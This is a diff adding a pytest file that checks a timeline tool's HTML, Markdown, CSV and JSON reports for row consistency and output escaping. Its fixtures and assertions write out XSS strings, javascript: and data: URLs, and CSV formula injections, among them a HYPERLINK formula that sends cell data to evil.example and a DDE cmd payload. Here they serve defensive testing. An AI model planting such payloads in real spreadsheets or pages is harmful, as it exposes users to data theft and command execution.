@@ -1,0 +1,200 @@
+"""The report files: the same rows everywhere, display dates, and the escaping rules of each format."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+import timeline
+from timeline.render import report
+from timeline.render.rows import COLUMNS, record_row
+from timeline.safety import safe_url
+
+FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
+
+
+@pytest.fixture(scope="module")
+def seed() -> timeline.Log:
+    return timeline.load(Path(__file__).resolve().parents[2] / "events.yaml")
+
+
+@pytest.fixture(scope="module")
+def hostile() -> timeline.Log:
+    return timeline.load(FIXTURES / "hostile.yaml")
+
+
+def write(log: timeline.Log, name: str) -> str:
+    return report.report_text(name, log, report.report_rows(log))
+
+
+# --- rows ---------------------------------------------------------------------------------------------------------
+
+def test_rows_are_the_shared_rows_in_log_order(seed: timeline.Log) -> None:
+    rows = report.report_rows(seed)
+    assert rows == [record_row(r, seed.sources) for r in seed.records]
+    assert [r["id"] for r in rows][:3] == ["openai-founded", "superalignment-formed", "board-coup"]
+
+
+@pytest.mark.parametrize("event_id, display, phrase", [
+    # a day, a range it lies in, a span
+    ("sutskever-leaves", "Tue 14 May 2024",
+     "\u201cTuesday\u201d: the most recent Tuesday on or before Fri 17 May 2024"),
+    ("leike-resigns", "between 13 and 16 May 2024",
+     "\u201cearlier this week\u201d: this week up to the day before Fri 17 May 2024"),
+    ("board-coup", "17-22 Nov 2023", "\u201clast year\u201d: the previous year of Fri 17 May 2024 "
+                                     "(2 claims reconciled)"),
+])
+def test_display_date_and_how_the_phrase_was_read(seed: timeline.Log, event_id: str, display: str,
+                                                  phrase: str) -> None:
+    row = next(r for r in report.report_rows(seed) if r["id"] == event_id)
+    assert row["display"] == display
+    assert report.phrase_words(row) == phrase
+    for name in ("report.html", "report.md"):
+        assert display in write(seed, name)
+
+
+def test_every_writer_lists_every_event_in_order(seed: timeline.Log) -> None:
+    ids = [r.id for r in seed.records]
+    for name in report.REPORT_WRITERS:
+        text = write(seed, name)
+        positions = [text.index(i) for i in ids]
+        assert positions == sorted(positions), name
+
+
+# --- HTML ---------------------------------------------------------------------------------------------------------
+
+ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "h1", "p", "div", "table", "caption",
+                "colgroup", "col", "thead", "tr", "th", "tbody", "td", "br", "span", "a"}
+ALLOWED_ATTRS = {"charset", "name", "content", "http-equiv", "lang", "class", "id", "scope", "href", "rel",
+                 "tabindex", "role", "aria-label"}
+
+
+class Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+def parsed(text: str) -> Tags:
+    tags = Tags()
+    tags.feed(text)
+    return tags
+
+
+def test_report_html_has_only_our_tags_attributes_and_links(hostile: timeline.Log) -> None:
+    doc = parsed(write(hostile, "report.html"))
+    assert {t for t, _ in doc.tags} <= ALLOWED_TAGS
+    assert {a for _, attrs in doc.tags for a in attrs} <= ALLOWED_ATTRS
+    hrefs = [attrs["href"] for t, attrs in doc.tags if t == "a"]
+    assert hrefs and all(h is not None and safe_url(h) == h for h in hrefs)
+    assert "https://example.com/a|b(c)[d]&q=1*2_3#x" in hrefs  # the ampersand escaped in the file, intact here
+    text = "".join(doc.text)
+    assert "<script>window.__pwned=9;alert(9)</script>" in text  # shown as text, exactly as written
+    assert "\u202e" not in text
+
+
+def test_a_link_that_is_not_http_or_mailto_is_text_only() -> None:
+    row = {c: None for c in COLUMNS} | {"id": "x", "title": "t", "display": "d", "precision": "day", "phrase": "p",
+                                         "tags": [], "actors": [], "claims": 1, "source": "s", "source_title": "S"}
+    for url in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)",
+                "https://ok.example/\" onmouseover=\"alert(1)", "vbscript:x"):
+        html = report.table_html([row | {"url": url}], caption="c")
+        assert "<a " not in html and "href" not in html, url
+    assert '<a href="mailto:desk@example.org"' in report.table_html([row | {"url": "mailto:desk@example.org"}],
+                                                                   caption="c")
+
+
+def test_report_html_is_self_contained(seed: timeline.Log) -> None:
+    html = write(seed, "report.html")
+    assert "<script" not in html and "src=" not in html and "@import" not in html
+    assert "default-src 'none'" in html
+    assert "<title>OpenAI&#x27;s safety exodus, 2023-2024: report</title>" in html
+
+
+# --- Markdown -----------------------------------------------------------------------------------------------------
+
+def cells(line: str) -> list[str]:
+    """Give the cells of a Markdown table line, splitting only on unescaped pipes."""
+    return [c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]]
+
+
+def test_markdown_cells_cannot_break_the_table(hostile: timeline.Log) -> None:
+    text = write(hostile, "report.md")
+    lines = text.splitlines()
+    table = [line for line in lines if line.startswith("|")]
+    assert len(table) == 2 + len(hostile.records)  # no value's newline started a line of its own
+    assert all(len(cells(line)) == len(report.TABLE_HEADERS) for line in table)
+    assert "<" not in text.replace("](<", "").replace(">)", "")  # no raw HTML, only our link brackets
+    assert not any(line.startswith("#") for line in lines[1:])  # "# heading" in a title stays in its cell
+    assert "\u202e" not in text
+
+
+def test_markdown_links_are_ours_and_percent_encode_what_would_end_them(hostile: timeline.Log) -> None:
+    text = write(hostile, "report.md")
+    assert "(<https://example.com/a%7Cb%28c%29%5Bd%5D&q=1*2_3#x>)" in text
+    assert "](javascript:" not in text and "](data:" not in text
+    assert "\\[a link\\]\\(javascript:window.\\_\\_pwned=4\\)" in text  # the description's link is inert text
+
+
+# --- CSV ----------------------------------------------------------------------------------------------------------
+
+def test_csv_neutralises_formulas(hostile: timeline.Log) -> None:
+    rows = list(csv.DictReader(io.StringIO(write(hostile, "report.csv"), newline="")))
+    assert len(rows) == len(hostile.records)
+    for row in rows:
+        for column in ("title", "quote", "tags", "actors", "notes", "source_title", "publisher"):
+            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
+    formula = next(r for r in rows if r["id"] == "formula-title")
+    assert formula["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+    assert formula["actors"] == "'=cmd|' /C calc'!A0"
+    assert formula["notes"] == "'@SUM(A1)"
+
+
+def test_csv_has_every_column_in_order(seed: timeline.Log) -> None:
+    header = write(seed, "report.csv").splitlines()[0]
+    assert header == ",".join(COLUMNS)
+
+
+# --- JSON ---------------------------------------------------------------------------------------------------------
+
+def test_json_round_trips_the_rows_one_event_per_line(hostile: timeline.Log) -> None:
+    text = write(hostile, "events.json")
+    assert json.loads(text) == report.report_rows(hostile)
+    lines = text.splitlines()
+    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == len(hostile.records) + 2
+    assert list(json.loads(lines[1].rstrip(","))) == list(COLUMNS)
+
+
+def test_empty_log_writes_empty_reports() -> None:
+    log = timeline.loads("title: nothing yet\nevents: []\n")
+    assert write(log, "events.json") == "[]\n"
+    assert "0 events" in write(log, "report.md")
+    assert write(log, "report.csv").splitlines() == [",".join(COLUMNS)]
+
+
+@pytest.mark.parametrize("name", ["report.csv", "events.json", "report.md", "report.html"])
+def test_writing_in_pieces_gives_the_same_text(hostile: timeline.Log, name: str,
+                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    from timeline.render.formats import to_csv
+
+    rows = report.report_rows(hostile)
+    monkeypatch.setattr(report, "CSV_BATCH", 2)
+    pieces = list(report.REPORT_WRITERS[name](hostile, rows))
+    assert len(pieces) > 2
+    if name == "report.csv":
+        assert "".join(pieces) == to_csv(rows)  # batches, joined, are one CSV with one header
+    if name == "events.json":
+        assert json.loads("".join(pieces)) == rows
